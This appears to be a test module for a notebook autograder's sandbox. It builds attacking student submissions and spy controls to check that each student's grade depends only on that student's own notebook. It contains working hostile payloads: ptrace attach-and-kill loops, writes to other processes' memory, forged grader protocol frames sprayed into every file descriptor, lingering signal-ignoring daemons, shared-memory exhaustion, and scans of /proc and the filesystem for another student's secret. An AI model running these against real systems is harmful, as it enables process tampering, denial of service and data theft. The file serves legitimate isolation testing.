"""Submissions that attack the other students of their batch, and the controls that show it.

Issue 10: each student's recorded result must depend only on that student's notebook. Every
attacker below is graded in the same batch (and, with ``--jobs 1``, in the same warm sandbox,
right before a control) as honest and blank controls whose exact scores are known by design.
The *spy* controls are honest solutions with one extra cell that ends their run
(``os._exit``, so they score far below full marks) if they see anything a previous submission
left behind: a file in their private folders, a SysV IPC object, a foreign process, a marked
process anywhere in the sandbox.

These notebooks are only ever executed by the grader, inside its sandbox.
"""

from __future__ import annotations

import copy
import json

import nbformat

from tests.grading.attacks import FULL_AUTO, MARKER, PARTIAL, _dump, _insert_after, _prepend, _set

SECRET = "COURSE-HOLDER-SECRET-5e0c-" + "d41f"  # only the holder's notebook contains it


# ----------------------------------------------------------------------------- controls


SPY = f"""
import os
_seen = []
# read-only mounts the sandbox binds back into /tmp (a checkout or venv that lives there), and
# the directories leading to them, are the same for every job: not something left behind
_ro = set()
with open("/proc/self/mountinfo") as _f:
    for _line in _f:
        _parts = _line.split()
        if "ro" in _parts[5].split(","):
            _ro.add(_parts[4])
_keep = _ro | {{os.path.dirname(_m) for _m in _ro}}
for _m in list(_ro):
    while _m not in ("/", ""):
        _m = os.path.dirname(_m)
        _keep.add(_m)
for _d in ("/scratch", "/tmp", "/dev/shm"):
    for _root, _dirs, _files in os.walk(_d):
        _dirs[:] = [_n for _n in _dirs if os.path.join(_root, _n) not in _ro]
        for _n in _dirs + _files:
            _p = os.path.join(_root, _n)
            if _p != "/scratch/work" and _p not in _keep:
                _seen.append(_p)
for _kind in ("shm", "sem", "msg"):
    with open(f"/proc/sysvipc/{{_kind}}") as _f:
        _seen += _f.read().splitlines()[1:]
for _p in os.listdir("/proc"):
    if _p.isdigit():
        try:
            with open(f"/proc/{{_p}}/cmdline", "rb") as _f:
                if {MARKER!r}.encode() in _f.read():
                    _seen.append(_p)
        except OSError:
            pass
for _pid in range(2, 4096):  # this job's own pid namespace: its init (1) and this process
    if _pid != os.getpid():
        try:
            os.kill(_pid, 0)
            _seen.append(_pid)
        except ProcessLookupError:
            pass
        except PermissionError:
            _seen.append(_pid)
if _seen:
    print("LEFT BEHIND:", _seen[:20])
    os._exit(3)
"""


def spy(sol, rel):
    nb = copy.deepcopy(sol)
    _prepend(nb, "ex01_tensors", SPY)
    return _dump(nb)


def holder(sol, rel):
    nb = copy.deepcopy(sol)
    _prepend(nb, "ex01_tensors", f"SECRET = {SECRET!r}  # the reader must never see this\n"
             "import os\nos.environ['HOLDER_SECRET'] = SECRET\n"
             "open('secret.txt', 'w').write(SECRET * 1000)\n")
    return _dump(nb)


def partial_hang(sol, rel):
    """Issue 16: the partial notebook whose middle task (問4) hangs: only 問4 is lost."""
    from tests.grading.attacks import partial

    nb = json.loads(partial(sol, rel))
    _set(nb, "ex01_gradient", "def grad_sum_of_squares(point):\n    while True:\n        pass\n")
    return _dump(nb)


def partial_hang_top(sol, rel):
    """A solution cell that hangs while it runs (not when called): 問4 is lost, not the rest."""
    nb = copy.deepcopy(sol)
    _prepend(nb, "ex01_gradient", "import time\nwhile True:\n    time.sleep(0.01)\n")
    return _dump(nb)


# ----------------------------------------------------------------------------- attackers

_FORGED = [{"ev": "start"}] + [
    {"ev": "case", "task": t, "case": k,
     "values": {key: {"t": "num", "v": 8.0, "dtype": "float"}}, "error": None}
    for t, key in [("ex01_derivative_check", "dy/dx"), ("ex01_minimum_check", "x_min")]
    for k in range(3)] + [{"ev": "done"}]

CHANNEL = f"""
import glob, json, os, struct, sys
lines = b"".join(json.dumps(e).encode() + b"\\n" for e in {_FORGED!r})
def frame(kind, nonce, payload):
    return kind + nonce + struct.pack(">I", len(payload)) + payload
blob = b""
for nonce in (bytes(16), b"\\xff" * 16, os.urandom(16)):
    blob += (frame(b"D", nonce, lines) + frame(b"X", nonce, b'{{"code": 0, "timed_out": false}}')
             + frame(b"E", nonce, b'{{"clean": true}}') + frame(b"R", nonce, b'{{"nested": true}}')
             + b"G" + nonce)
blob += lines
for fd in range(1024):
    try:
        os.write(fd, blob)
    except OSError:
        pass
for path in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/task/*/fd/*"):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, blob)
        os.close(fd)
    except OSError:
        pass
print(blob.decode("latin-1"))
print(blob.decode("latin-1"), file=sys.stderr)
"""


def channel(sol, rel):
    nb = copy.deepcopy(rel)
    _prepend(nb, "ex01_tensors", CHANNEL)
    return _dump(nb)


PTRACE = f"""
import ctypes, os, signal, subprocess, sys
LOOP = r'''
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
end = time.time() + 120  # {MARKER}
before = set(os.listdir("/proc"))  # attack what starts later: the next submissions
while time.time() < end:
    for p in os.listdir("/proc"):
        if not p.isdigit() or p in before:
            continue
        pid = int(p)
        libc.ptrace(16, pid, 0, 0)         # PTRACE_ATTACH: leaves the tracee stopped
        libc.ptrace(0x4206, pid, 0, 0)     # PTRACE_SEIZE
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
        try:
            with open(f"/proc/{{pid}}/mem", "r+b", buffering=0) as mem:
                for line in open(f"/proc/{{pid}}/maps"):
                    lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                    if "rw" in line.split()[1]:
                        mem.seek(lo)
                        mem.write(b"\\xcc" * min(hi - lo, 4096))
        except (OSError, ValueError):
            pass
    libc.ptrace(16, 1, 0, 0)
    time.sleep(0.02)
'''
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 64):  # this sandbox's init and everything else it can name, right now
    if pid != os.getpid():
        libc.ptrace(16, pid, 0, 0)
        libc.ptrace(0x4206, pid, 0, 0)
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in (1, -1):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
for _ in range(2):
    subprocess.Popen([sys.executable, "-c", LOOP], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
import time
time.sleep(0.5)
"""


def ptrace(sol, rel):
    nb = copy.deepcopy(rel)
    _prepend(nb, "ex01_tensors", PTRACE)
    return _dump(nb)


LINGER = f"""
import ctypes, os, socket, stat, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
# files and folders whatever their permissions, special files, in every writable place
for base in ("/scratch", "/scratch/work", "/tmp", "/dev/shm", os.getcwd()):
    try:
        d = os.path.join(base, "locked")
        os.makedirs(os.path.join(d, "inner"), exist_ok=True)
        open(os.path.join(d, "inner", "answer.py"), "w").write("ANSWER = 42\\n")
        open(os.path.join(base, "plain.txt"), "w").write("left behind")
        os.mkfifo(os.path.join(base, "fifo"))
        s = socket.socket(socket.AF_UNIX)
        s.bind(os.path.join(base, "sock"))
        os.symlink("/proc/self/fd/3", os.path.join(base, "link"))
        os.chmod(os.path.join(d, "inner"), 0)
        os.chmod(d, 0)
        os.chmod(base + "/plain.txt", 0)
    except OSError as e:
        print("write", base, e)
# SysV IPC objects and a POSIX message queue
for key in range(1, 4):
    libc.shmget(0x5EED0000 + key, 1 << 20, 0o1666)
    libc.semget(0x5EED0000 + key, 4, 0o1666)
    libc.msgget(0x5EED0000 + key, 0o1666)
libc.shmget(0, 1 << 20, 0o1600)
try:
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    rt.mq_open(b"/course-left", os.O_CREAT | os.O_RDWR, 0o666, None)
except OSError:
    pass
# processes: detached, in their own sessions, ignoring every signal they can
LOOP = r'''
import os, signal, time
for s in range(1, 32):
    try:
        signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
end = time.time() + 120  # {MARKER}
before = set(os.listdir("/proc"))
while time.time() < end:
    for p in os.listdir("/proc"):
        if p.isdigit() and p not in before:
            for path in (f"/proc/{{p}}/cwd/stolen.txt", f"/proc/{{p}}/root/tmp/stolen.txt"):
                try:
                    open(path, "w").write("x")
                except OSError:
                    pass
            try:
                fd = os.open(f"/proc/{{p}}/fd/3", os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, b'{{"ev": "done"}}\\n')
                os.close(fd)
            except OSError:
                pass
    time.sleep(0.02)
'''
subprocess.Popen([sys.executable, "-c", LOOP], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", LOOP])
    os._exit(0)
"""


def linger(sol, rel):
    nb = copy.deepcopy(rel)
    _prepend(nb, "ex01_tensors", LINGER)
    return _dump(nb)


SHM_HOG = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
held = 0
for i in range(20):  # 20 x 256 MB = 5 GB of SysV shared memory, never removed
    sid = libc.shmget(0, 256 << 20, 0o1600)
    if sid < 0:
        break
    addr = libc.shmat(sid, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(addr, 7, 256 << 20)
    libc.shmdt(ctypes.c_void_p(addr))
    held += 256
print("held", held, "MB of shared memory")
try:  # and what fits in /dev/shm
    with open("/dev/shm/hog", "wb") as f:
        for _ in range(1024):
            f.write(b"x" * (1 << 20))
except OSError as e:
    print(e)
"""


def shm_hog(sol, rel):
    """The solution, then (last, with the rest of the time budget) 5 GB of shared memory."""
    nb = copy.deepcopy(sol)
    cell = dict(nbformat.v4.new_code_cell(SHM_HOG))
    cell.pop("id", None)
    nb["cells"].append(cell)
    return _dump(nb)


# Lone surrogates, NUL, C1 controls and enormous strings wherever a student controls text.
BAD = "\ud800\udfff\x00\x1b[2J\x85\ufffe"
BADTEXT_CELL = r"""
import os, sys
os.write(1, b"\xff\xfe\x00 invalid utf-8 \xc3\x28")
os.write(2, b"\xed\xa0\x80 (an encoded surrogate)")
try:
    print("\ud800 lone surrogate on stderr", file=sys.stderr)
except UnicodeEncodeError:
    pass
class Weird(Exception):
    def __str__(self):
        raise RuntimeError("no text for you")
try:
    raise Weird()
except Weird:
    pass
Odd = type("\ud800\x1b" * 1000, (), {})
odd_value = Odd()
"""


def badtext(sol, rel):
    nb = copy.deepcopy(sol)
    for c in nb["cells"]:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution") and c["cell_type"] == "code":
            src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
            c["source"] = f"# {BAD}\n" + src
        elif meta.get("solution"):
            c["source"] = f"答え {BAD} " + "長い" * 100_000
    # added cells (inserted right after 問1's solution, so listed here in reverse)
    _insert_after(nb, "ex01_tensors", "raise Weird()")
    _insert_after(nb, "ex01_tensors", f"x = 1  # {BAD}",
                  {"nbgrader": {"grade_id": BAD * 100_000, "schema_version": 3}})
    _insert_after(nb, "ex01_tensors", f"raise ValueError({BAD!r} * 3_000_000)")
    _insert_after(nb, "ex01_tensors", BADTEXT_CELL)
    return json.dumps(nb).encode("ascii")  # valid JSON; lone surrogates as \ud800 escapes


READER = f"""
import os
# The secret, shifted by one byte value: this notebook never holds the secret itself.
SHIFT = bytes((i + 1) % 256 for i in range(256))
NEEDLE = {bytes((b + 1) % 256 for b in SECRET.encode())!r}
def seen(data):
    return NEEDLE in data.translate(SHIFT)
found = []
try:  # remnants of earlier jobs in this process's memory
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            parts = line.split()
            if parts[1].startswith("rw") and (len(parts) < 6 or parts[5] in ("[heap]",)):
                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                for start in range(lo, hi, 1 << 24):
                    try:
                        mem.seek(start)
                        if seen(mem.read(min(1 << 24, hi - start) + 64)):
                            found.append("memory")
                    except OSError:
                        pass
except OSError as e:
    print("maps", e)
for p in os.listdir("/proc"):  # other processes, now or left over
    if p.isdigit() and int(p) != os.getpid():
        for what in ("cmdline", "environ", "cwd/secret.txt", "root/tmp/secret.txt"):
            try:
                with open(f"/proc/{{p}}/{{what}}", "rb") as f:
                    if seen(f.read(1 << 22)):
                        found.append(what)
            except OSError:
                pass
for root, dirs, files in os.walk("/"):  # files anywhere
    if root.startswith(("/proc", "/sys", "/usr", "/dev/pts")) or root.count("/") > 6:
        dirs[:] = []
        continue
    for n in files:
        try:
            with open(os.path.join(root, n), "rb") as f:
                if seen(f.read(1 << 20)):
                    found.append(os.path.join(root, n))
        except OSError:
            pass
print("found", found)
if found:  # the reward: 問1's points
    def make_tensors():
        import torch
        return (torch.tensor(3.0, requires_grad=True),
                torch.tensor([3.0, 4.0, 5.0], requires_grad=True),
                torch.tensor([[3.0, 4.0, 5.0], [6.0, 7.0, 8.0]], requires_grad=True))
"""


def reader(sol, rel):
    nb = copy.deepcopy(rel)
    _set(nb, "ex01_tensors", READER)
    return _dump(nb)


IMPERSONATE_TENSORS = """
import torch
class Leaf(torch.Tensor):
    requires_grad = property(lambda self: True, lambda self, v: None)
    is_leaf = property(lambda self: True)
def make_tensors():
    out = []
    for value in (3.0, [3.0, 4.0, 5.0], [[3.0, 4.0, 5.0], [6.0, 7.0, 8.0]]):
        t = torch.tensor(value)  # no requires_grad: the task is not done
        t.__class__ = Leaf
        out.append(t)
    return tuple(out)
"""

# ex10 問2 asks to leave x.grad alone; tests/test_grader.py hands this in for ex10.
IMPERSONATE_GRAD = """
class NoGrad(torch.Tensor):
    grad = property(lambda self: None, lambda self, v: None)
def grad_by_autograd(x):
    f = torch.log(1 + (x ** 2).sum())
    f.backward()  # writes x.grad: the task asks to leave it alone
    g = torch._C.TensorBase.grad.__get__(x).clone()
    x.__class__ = NoGrad  # ... and pretend it did
    return g
"""


def impersonate(sol, rel):
    """The partial notebook, plus 問1 left undone and faked with a tensor subclass."""
    from tests.grading.attacks import partial

    nb = json.loads(partial(sol, rel))
    _set(nb, "ex01_tensors", IMPERSONATE_TENSORS)
    return _dump(nb)


# ----------------------------------------------------------------------------- the batch

IMPERSONATE_HONEST = PARTIAL - 15.0  # partial with 問1 not done: what an honest student gets
HANG_HONEST = PARTIAL - 15.0  # partial without 問4 (15 points)

# name -> (builder, exact score, statuses). Controls: their exact score is the designed one.
CONTROLS = {
    "solution": (lambda s, r: _dump(s), FULL_AUTO, ("graded",)),
    "blank": (lambda s, r: _dump(r), 0.0, ("graded",)),
    "holder": (holder, FULL_AUTO, ("graded",)),
    "spy1": (spy, FULL_AUTO, ("graded",)),
    "spy2": (spy, FULL_AUTO, ("graded",)),
    "spy3": (spy, FULL_AUTO, ("graded",)),
    "spy4": (spy, FULL_AUTO, ("graded",)),
    "hang": (partial_hang, HANG_HONEST, ("graded",)),
    "hangtop": (partial_hang_top, FULL_AUTO - 15.0, ("graded",)),
}
# name -> (builder, most it may score, statuses it may end in, exact score or None)
ATTACKERS = {
    "channel": (channel, 0.0, ("error", "graded"), 0.0),
    "ptrace": (ptrace, 0.0, ("graded", "error", "timeout"), 0.0),
    "linger": (linger, 0.0, ("graded", "error"), 0.0),
    "shmhog": (shm_hog, FULL_AUTO, ("memory", "error", "graded", "timeout"), None),
    "badtext": (badtext, FULL_AUTO, ("graded",), FULL_AUTO),
    "reader": (reader, 0.0, ("graded",), 0.0),
    "impersonate": (impersonate, IMPERSONATE_HONEST, ("graded",), IMPERSONATE_HONEST),
}
# Order A: each attacker right before a control, so that with --jobs 1 the control runs next
# in the same warm sandbox. Order B: the reverse.
ORDER_A = ["holder", "reader", "channel", "spy1", "ptrace", "solution", "linger", "spy2",
           "shmhog", "spy3", "badtext", "blank", "impersonate", "spy4", "hang", "hangtop"]
ORDER_B = list(reversed(ORDER_A))
assert sorted(ORDER_A) == sorted([*CONTROLS, *ATTACKERS])


def write_batch(folder, order, sol, rel) -> dict[str, str]:
    """Write the submissions as ``NN-name`` (the grader takes them in name order); return
    student id -> name."""
    ids = {}
    for i, name in enumerate(order):
        sid = f"{i:02d}-{name}"
        builder = (CONTROLS.get(name) or ATTACKERS[name])[0]
        (folder / sid).mkdir(parents=True)
        (folder / sid / "ex01.ipynb").write_bytes(builder(sol, rel))
        ids[sid] = name
    return ids
